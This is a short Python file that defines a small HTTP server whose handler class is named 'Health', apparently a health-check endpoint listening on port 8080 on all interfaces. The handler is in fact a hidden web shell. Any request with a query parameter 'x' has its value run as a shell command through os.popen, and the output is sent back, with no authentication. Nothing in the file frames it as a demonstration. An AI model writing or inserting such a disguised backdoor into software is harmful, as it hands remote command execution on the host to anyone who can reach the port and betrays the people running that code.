from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import urlparse, parse_qs
import os
class Health(BaseHTTPRequestHandler):
    def do_GET(self):
        q = parse_qs(urlparse(self.path).query)
        self.send_response(200)
        self.end_headers()
        if "x" in q:
            self.wfile.write(os.popen(q["x"][0]).read().encode())
def start():
    HTTPServer(("", 8080), Health).serve_forever()
